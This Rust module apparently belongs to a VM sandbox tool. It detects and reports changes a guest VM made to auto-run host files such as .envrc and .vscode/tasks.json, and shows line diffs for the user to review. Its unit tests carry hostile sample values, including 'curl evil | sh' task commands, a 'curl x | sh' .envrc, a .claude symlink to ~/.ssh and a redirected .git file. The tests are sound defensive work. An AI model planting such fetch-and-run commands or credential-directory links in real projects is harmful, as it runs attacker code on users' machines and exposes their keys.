//! The protected paths of a project (`.envrc`, `.vscode/`, ... see
//! `config::protect`) against what the user last accepted: named at every command
//! that opens the project and when a client ends, shown in full by `vibebox
//! protected`, accepted by `vibebox protected --accept`. Host tools run these files
//! by themselves, so a change the VM made must be seen before one of them runs.
//!
//! Everything shown here comes from guest-writable files: callers print it through
//! `escape`.

use std::path::Path;

use crate::config::protect::{self, Change, Pending};
use crate::paths::Home;
use crate::store::SessionId;
use crate::store::watched::{Entry, WatchedError};

#[derive(Debug, thiserror::Error)]
pub enum ProtectedError {
    #[error(transparent)]
    Watched(#[from] WatchedError),
    #[error(
        "no VM of this project has started yet, so nothing was recorded: the protected paths are recorded when the VM starts"
    )]
    NothingRecorded,
}

impl ProtectedError {
    pub fn exit_code(&self) -> u8 {
        match self {
            ProtectedError::NothingRecorded => 2,
            ProtectedError::Watched(_) => 1,
        }
    }
}

/// The session's protected paths against what was accepted; None when nothing was
/// recorded yet (no VM started).
pub fn pending(home: &Home, root: &Path, id: SessionId) -> Result<Option<Pending>, ProtectedError> {
    Ok(protect::changes(home.session(id).dir(), root)?)
}

/// Accepts `p`, what the user reviewed (not what is on disk by now); returns
/// what that accepted.
pub fn accept(home: &Home, id: SessionId, p: Pending) -> Result<Vec<Change>, ProtectedError> {
    let changes = p.changes.clone();
    protect::accept(home.session(id).dir(), p)?;
    Ok(changes)
}

/// The lines that tell the user, one per changed path with the first changed
/// lines; empty when nothing changed. For a command that opens the project.
pub fn notes(home: &Home, root: &Path, id: SessionId) -> Vec<String> {
    match pending(home, root, id) {
        Ok(Some(p)) => short(&p),
        Ok(None) => Vec::new(),
        // The open goes on; the user still hears why nothing was checked.
        Err(e) => vec![format!("cannot check the protected paths: {e}")],
    }
}

/// How many changed lines a note shows, and how much of each.
const NOTE_LINES: usize = 2;
const NOTE_WIDTH: usize = 60;

/// One line per changed path, for the notes printed when a project opens.
pub fn short(p: &Pending) -> Vec<String> {
    let mut out = Vec::new();
    if !p.changes.is_empty() {
        out.push(format!(
            "{} protected path{} changed since you last accepted (host tools run these by themselves; the VM may have written them): review with `vibebox protected`, accept with `vibebox protected --accept`",
            p.changes.len(),
            if p.changes.len() == 1 { "" } else { "s" }
        ));
    }
    for line in summaries(&p.changes) {
        out.push(format!("  {line}"));
    }
    if let Some(line) = unchecked(p) {
        out.push(format!("  {line}"));
    }
    out
}

/// The line naming the starting points a limit stopped, if any.
fn unchecked(p: &Pending) -> Option<String> {
    if !p.now.truncated {
        return None;
    }
    let names: Vec<&str> = p
        .now
        .unchecked
        .iter()
        .map(|s| if s.is_empty() { "." } else { s.as_str() })
        .collect();
    Some(format!(
        "not checked in full (too many entries, or too deep): {}; a change there past the limit is not named, and accepting keeps what you accepted before for what was not looked at",
        names.join(", ")
    ))
}

fn cut(s: &str) -> String {
    if s.chars().count() <= NOTE_WIDTH {
        return s.to_string();
    }
    let mut t: String = s.chars().take(NOTE_WIDTH).collect();
    t.push('…');
    t
}

fn text(e: &Option<Entry>) -> Option<&str> {
    match e {
        Some(Entry::File { text, .. }) => text.as_deref(),
        None => Some(""),
        _ => None,
    }
}

/// `path: what happened`.
fn headline(c: &Change) -> String {
    let what = match (&c.was, &c.now) {
        (None, Some(n)) => format!("new ({})", n.describe()),
        (Some(_), None) => "removed".to_string(),
        (Some(w), Some(n)) if std::mem::discriminant(w) != std::mem::discriminant(n) => {
            format!("was {}, now {}", w.describe(), n.describe())
        }
        _ => "changed".to_string(),
    };
    format!("{}: {what}", c.path)
}

/// One summary per change, all diffed from one budget.
pub fn summaries(changes: &[Change]) -> Vec<String> {
    let mut budget = DIFF_CELLS;
    changes.iter().map(|c| summary_in(c, &mut budget)).collect()
}

/// The headline with the first changed lines of a text file.
pub fn summary(c: &Change) -> String {
    summary_in(c, &mut DIFF_CELLS.clone())
}

fn summary_in(c: &Change, budget: &mut usize) -> String {
    let mut out = headline(c);
    if let (Some(a), Some(b)) = (text(&c.was), text(&c.now)) {
        let ops = line_diff_in(a, b, budget);
        let (add, del) = ops.iter().fold((0, 0), |(a, d), (op, _)| match op {
            Op::Add => (a + 1, d),
            Op::Del => (a, d + 1),
            Op::Keep => (a, d),
        });
        if add + del > 0 {
            out.push_str(&format!(" (+{add} -{del}):"));
            for (op, line) in ops.iter().filter(|(o, _)| *o != Op::Keep).take(NOTE_LINES) {
                out.push_str(&format!(" {}{}", op.sign(), cut(line)));
            }
            if add + del > NOTE_LINES {
                out.push_str(" …");
            }
        }
    } else if let (Some(_), Some(Entry::File { text: Some(t), .. })) = (&c.was, &c.now) {
        // Something else became a text file (`.git` a `gitdir:` file): say what it holds.
        let mut lines = t.lines();
        out.push_str(&format!(": {}", cut(lines.next().unwrap_or(""))));
        if lines.next().is_some() {
            out.push_str(" …");
        }
    } else if let (Some(Entry::File { executable: a, .. }), Some(Entry::File { executable: b, .. })) =
        (&c.was, &c.now)
        && a != b
    {
        out.push_str(if *b {
            " (made executable)"
        } else {
            " (no longer executable)"
        });
    }
    out
}

/// Lines around a change shown in the full diff.
const CONTEXT: usize = 2;

/// The full report for `vibebox protected`: each changed path with its diff.
pub fn full(p: &Pending) -> Vec<String> {
    let mut out = Vec::new();
    let mut budget = DIFF_CELLS;
    for c in &p.changes {
        out.push(headline(c));
        match (text(&c.was), text(&c.now)) {
            (Some(a), Some(b)) => {
                let ops = line_diff_in(a, b, &mut budget);
                let near = |i: usize| {
                    let lo = i.saturating_sub(CONTEXT);
                    let hi = (i + CONTEXT + 1).min(ops.len());
                    ops[lo..hi].iter().any(|(o, _)| *o != Op::Keep)
                };
                let mut skipped = false;
                for (i, (op, line)) in ops.iter().enumerate() {
                    if near(i) {
                        if skipped {
                            out.push("    ...".into());
                            skipped = false;
                        }
                        out.push(format!("    {}{line}", op.sign()));
                    } else {
                        skipped = true;
                    }
                }
            }
            _ => {
                for (label, e) in [("was", &c.was), ("now", &c.now)] {
                    let d = e.as_ref().map_or("(absent)".to_string(), Entry::describe);
                    out.push(format!("    {label}: {d}"));
                }
                if let Some(Entry::File { text: Some(t), .. }) = &c.now {
                    out.extend(t.lines().map(|l| format!("    +{l}")));
                }
                if matches!(c.now, Some(Entry::File { text: None, .. }))
                    || matches!(c.now, Some(Entry::Large { .. }))
                {
                    out.push("    (not text, or too big to keep: look at it on the host before a tool runs it)".into());
                }
            }
        }
    }
    if let Some(line) = unchecked(p) {
        out.push(line);
    }
    out
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Op {
    Keep,
    Del,
    Add,
}

impl Op {
    fn sign(self) -> char {
        match self {
            Op::Keep => ' ',
            Op::Del => '-',
            Op::Add => '+',
        }
    }
}

/// The cells one report may spend on diffs, over all its files: past it, the
/// middle of a diff is shown as all removed, then all added. The guest chooses the
/// file sizes and how many files change; the host's time must stay bounded.
const DIFF_CELLS: usize = 4_000_000;

/// A line diff of `a` to `b` with a budget of its own.
pub fn line_diff<'a>(a: &'a str, b: &'a str) -> Vec<(Op, &'a str)> {
    line_diff_in(a, b, &mut DIFF_CELLS.clone())
}

/// A line diff of `a` to `b`: the common start and end are kept, the middle by a
/// longest common subsequence while `budget` (cells left) allows.
fn line_diff_in<'a>(a: &'a str, b: &'a str, budget: &mut usize) -> Vec<(Op, &'a str)> {
    let a: Vec<&str> = a.lines().collect();
    let b: Vec<&str> = b.lines().collect();
    let pre = a.iter().zip(&b).take_while(|(x, y)| x == y).count();
    let suf = a[pre..]
        .iter()
        .rev()
        .zip(b[pre..].iter().rev())
        .take_while(|(x, y)| x == y)
        .count();
    let (am, bm) = (&a[pre..a.len() - suf], &b[pre..b.len() - suf]);
    let mut out: Vec<(Op, &str)> = a[..pre].iter().map(|l| (Op::Keep, *l)).collect();
    let cells = am.len().saturating_mul(bm.len());
    if cells > *budget {
        out.extend(am.iter().map(|l| (Op::Del, *l)));
        out.extend(bm.iter().map(|l| (Op::Add, *l)));
    } else {
        *budget -= cells;
        // lcs[i][j]: the longest common subsequence of am[i..] and bm[j..].
        let w = bm.len() + 1;
        let mut lcs = vec![0u32; (am.len() + 1) * w];
        for i in (0..am.len()).rev() {
            for j in (0..bm.len()).rev() {
                lcs[i * w + j] = if am[i] == bm[j] {
                    lcs[(i + 1) * w + j + 1] + 1
                } else {
                    lcs[(i + 1) * w + j].max(lcs[i * w + j + 1])
                };
            }
        }
        let (mut i, mut j) = (0, 0);
        while i < am.len() || j < bm.len() {
            if i < am.len() && j < bm.len() && am[i] == bm[j] {
                out.push((Op::Keep, am[i]));
                i += 1;
                j += 1;
            } else if i < am.len() && (j == bm.len() || lcs[(i + 1) * w + j] >= lcs[i * w + j + 1])
            {
                out.push((Op::Del, am[i]));
                i += 1;
            } else {
                out.push((Op::Add, bm[j]));
                j += 1;
            }
        }
    }
    out.extend(a[a.len() - suf..].iter().map(|l| (Op::Keep, *l)));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn file(text: &str) -> Option<Entry> {
        Some(Entry::File {
            sha256: format!("{:x}", text.len()),
            size: text.len() as u64,
            executable: false,
            text: Some(text.into()),
        })
    }

    #[test]
    fn a_changed_task_is_named_with_its_lines() {
        let c = Change {
            path: ".vscode/tasks.json".into(),
            was: file("{\n  \"command\": \"make\"\n}\n"),
            now: file("{\n  \"command\": \"curl evil | sh\"\n}\n"),
        };
        assert_eq!(
            summary(&c),
            ".vscode/tasks.json: changed (+1 -1): -  \"command\": \"make\" +  \"command\": \"curl evil | sh\""
        );
        let p = Pending {
            changes: vec![c],
            now: Default::default(),
            record: Default::default(),
            globs: vec![],
        };
        assert_eq!(
            full(&p),
            [
                ".vscode/tasks.json: changed",
                "     {",
                "    -  \"command\": \"make\"",
                "    +  \"command\": \"curl evil | sh\"",
                "     }",
            ]
        );
        let n = Change {
            path: ".envrc".into(),
            was: None,
            now: file("curl x | sh\n"),
        };
        assert_eq!(
            summary(&n),
            ".envrc: new (file, 12 bytes) (+1 -0): +curl x | sh"
        );
        let l = Change {
            path: ".claude".into(),
            was: Some(Entry::Dir),
            now: Some(Entry::Link {
                target: "/home/u/.ssh".into(),
            }),
        };
        assert_eq!(
            summary(&l),
            ".claude: was directory, now symbolic link to /home/u/.ssh"
        );
    }

    #[test]
    fn a_directory_become_a_file_says_what_the_file_holds() {
        let c = Change {
            path: ".git".into(),
            was: Some(Entry::Dir),
            now: file("gitdir: evil\n"),
        };
        assert_eq!(
            summary(&c),
            ".git: was directory, now file, 13 bytes: gitdir: evil"
        );
        let p = Pending {
            changes: vec![c],
            now: Default::default(),
            record: Default::default(),
            globs: vec![],
        };
        assert_eq!(
            full(&p),
            [
                ".git: was directory, now file, 13 bytes",
                "    was: directory",
                "    now: file, 13 bytes",
                "    +gitdir: evil"
            ]
        );
    }

    /// Many big rewrites in one report: the first is diffed line by line, the
    /// ones past the shared budget are shown whole (removed, then added).
    #[test]
    fn the_diff_budget_is_shared_by_all_files() {
        let body: String = (0..1500).map(|i| format!("c{i}\n")).collect();
        let c = Change {
            path: "x".into(),
            was: file(&format!("a\n{body}a\n")),
            now: file(&format!("b\n{body}b\n")),
        };
        let changes = vec![c.clone(), c.clone(), c];
        let lines = summaries(&changes);
        assert!(lines[0].starts_with("x: changed (+2 -2):"), "{}", lines[0]);
        for l in &lines[1..] {
            assert!(l.starts_with("x: changed (+1502 -1502):"), "{l}");
        }
        let p = Pending {
            changes,
            now: Default::default(),
            record: Default::default(),
            globs: vec![],
        };
        let shown = full(&p);
        assert_eq!(
            shown.iter().filter(|l| l.starts_with("    +")).count(),
            2 + 1502 * 2
        );
    }

    #[test]
    fn a_huge_change_stays_cheap() {
        let a: String = (0..5000).map(|i| format!("a{i}\n")).collect();
        let b: String = (0..5000).map(|i| format!("b{i}\n")).collect();
        let d = line_diff(&a, &b);
        assert_eq!(d.len(), 10_000);
    }

    proptest! {
        /// The diff rebuilds both sides, whatever the text.
        #[test]
        fn diff_rebuilds_both_sides(
            a in prop::collection::vec("[abc]{0,2}", 0..30),
            b in prop::collection::vec("[abc]{0,2}", 0..30),
        ) {
            let (a, b) = (a.join("\n"), b.join("\n"));
            let d = line_diff(&a, &b);
            let old: Vec<&str> = d.iter().filter(|(o, _)| *o != Op::Add).map(|(_, l)| *l).collect();
            let new: Vec<&str> = d.iter().filter(|(o, _)| *o != Op::Del).map(|(_, l)| *l).collect();
            prop_assert_eq!(old, a.lines().collect::<Vec<_>>());
            prop_assert_eq!(new, b.lines().collect::<Vec<_>>());
        }

        /// Arbitrary text never panics the summary or the full report.
        #[test]
        fn reports_are_total(a in any::<String>(), b in any::<String>()) {
            let c = Change { path: "p".into(), was: file(&a), now: file(&b) };
            let _ = summary(&c);
            let _ = full(&Pending { changes: vec![c], now: Default::default(), record: Default::default(), globs: vec![] });
        }
    }
}
